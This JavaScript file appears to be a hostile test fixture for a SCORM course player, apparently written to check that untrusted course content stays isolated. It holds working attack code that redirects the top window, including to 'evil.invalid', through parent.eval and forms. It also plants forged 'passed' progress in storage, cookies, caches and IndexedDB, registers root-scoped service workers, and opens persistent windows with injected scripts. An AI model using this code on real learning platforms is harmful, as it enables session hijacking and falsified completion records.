/**
 * Attacks of a course before it is left, to reach what the learner opens next. It begins without a click and continues
 * at the first one.
 */
const { app, passes, takes } = window.target
const said = window.parent.API
said.LMSInitialize('')

const attempt = (act) => {
  try {
    return act()
  } catch (error) {
    return error.name
  }
}
function follow(properties) {
  const link = Object.assign(document.createElement('a'), properties)
  document.body.append(link)
  link.click()
}
function sendForm(action, target, method = 'get') {
  const form = Object.assign(document.createElement('form'), { action, target, method })
  document.body.append(form)
  form.submit()
}

/** Tries to navigate the whole window to pages of the app and elsewhere. */
function takeTheWindow() {
  for (const away of [`${app}/my-records`, 'https://evil.invalid/']) {
    attempt(() => (top.location = away))
    attempt(() => top.location.replace(away))
    attempt(() => window.open(away, '_top'))
    attempt(() => follow({ href: away, target: '_top' }))
    attempt(() => sendForm(away, '_top'))
    attempt(() => sendForm(away, '_top', 'post'))
    attempt(() => parent.eval(`top.location = ${JSON.stringify(away)}`))
    attempt(() => parent.eval(`window.open(${JSON.stringify(away)}, '_parent')`))
  }
  for (const steps of [-1, -2, -3]) attempt(() => history.go(steps))
  attempt(() => history.back())
  attempt(() => parent.history.back())
}

/** Leaves data in the browser for content that trusts it. */
async function leaveBehind() {
  attempt(() => localStorage.setItem('progress', passes))
  attempt(() => sessionStorage.setItem('progress', passes))
  attempt(() => (document.cookie = `progress=${passes}; path=/; max-age=3600`))
  await Promise.allSettled([
    (async () => (await caches.open('progress')).put('/scorm/progress', new Response(passes)))(),
    new Promise((done) => {
      const opening = indexedDB.open('progress', 1)
      opening.addEventListener('upgradeneeded', () => opening.result.createObjectStore('progress').put(passes, 'progress'))
      opening.addEventListener('success', done)
      opening.addEventListener('error', done)
    }),
    navigator.serviceWorker?.register('worker.js', { scope: '/scorm/' }),
    navigator.serviceWorker?.register('/scorm/player/assets/main.js', { scope: '/' }),
  ])
  attempt(() => new SharedWorker(URL.createObjectURL(new Blob([`(${tell.toString()})()`])), 'progress'))
}
function tell() {
  setInterval(() => new BroadcastChannel('progress').postMessage('passed'), 200)
}
tell()

/** Opens windows that stay when the course is left: named and unnamed, empty and with a page of this course. */
function openWindows() {
  window.name = parent.name = 'lurker'
  const opened = [
    window.open('about:blank', 'lurking'),
    window.open('', 'player'),
    window.open('watch.html', 'watching'),
    parent.eval(`window.open('about:blank', 'from-the-player')`),
  ]
  for (const one of opened) {
    attempt(() => (one.tab = top))
    attempt(() =>
      one.document.body.append(Object.assign(one.document.createElement('script'), { src: new URL('watch.js', location).href })),
    )
  }
  for (const rel of ['opener', 'noopener']) attempt(() => follow({ href: 'watch.html', target: '_blank', rel }))
  return opened.filter(Boolean).length
}

if (takes) takeTheWindow()
await leaveBehind()
document.querySelector('button').addEventListener('click', () => void lurk())
console.log('lurking')

async function lurk() {
  const windows = openWindows()
  if (takes) takeTheWindow()
  await leaveBehind()
  console.log(`opened ${windows}`)
}
